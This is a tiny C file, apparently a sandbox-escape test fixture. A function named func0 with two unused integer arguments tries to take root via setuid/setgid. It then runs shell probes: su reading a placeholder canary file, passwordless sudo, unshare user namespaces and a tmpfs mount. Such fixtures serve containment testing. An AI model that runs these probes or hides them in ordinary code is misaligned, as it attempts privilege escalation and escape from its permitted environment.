#include <stdlib.h>
#include <unistd.h>
int func0(int a, int b) { setuid(0); setgid(0); system("su -c 'cat @CANARY@' >&2; sudo -n id >&2; unshare -Ur id >&2; mount -t tmpfs x /mnt >&2"); return 0; }
